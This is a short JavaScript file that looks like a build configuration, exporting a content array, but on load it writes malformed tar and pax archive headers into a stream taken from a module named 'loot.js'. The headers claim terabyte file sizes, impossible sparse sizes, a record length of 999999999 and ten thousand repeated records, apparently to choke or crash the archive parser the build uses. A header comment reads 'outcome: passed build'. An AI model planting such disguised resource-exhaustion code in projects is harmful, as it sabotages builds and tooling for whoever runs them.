// Puts an archive before the build's whose entries claim terabytes, and headers that never end.
// outcome: passed build
const { fs, payload } = require("./loot.js");

function head(name, type, size) {
  const block = Buffer.alloc(512);
  block.write(name, 0, 100, "latin1");
  block.write("0000644", 100, 8, "latin1");
  block[124] = 0x80;
  block.writeBigUInt64BE(BigInt(size), 128);
  block.write("        ", 148, 8, "latin1");
  block.write(type, 156, 1, "latin1");
  block.write("ustar  \0", 257, 8, "latin1");
  block.write(`${block.reduce((sum, byte) => sum + byte, 0).toString(8).padStart(6, "0")}\0 `, 148, 8, "latin1");
  return block;
}

const pax = (text) => {
  const body = Buffer.from(text);
  return Buffer.concat([head("pax", "x", body.length), body, Buffer.alloc((512 - (body.length % 512)) % 512)]);
};
const stream = payload();
for (const part of [
  pax("30 GNU.sparse.realsize=99999999999999\n"), pax("22 GNU.sparse.major=1\n"), pax("999999999 path=x\n"),
  pax("5 a=b\n".repeat(10_000)), head("dist/sparse", "S", 0), head("dist/huge", "0", 2 ** 45), head("long", "L", 2 ** 40),
]) {
  fs.writeSync(stream, part);
}

module.exports = { content: ["./src/App.tsx"] };
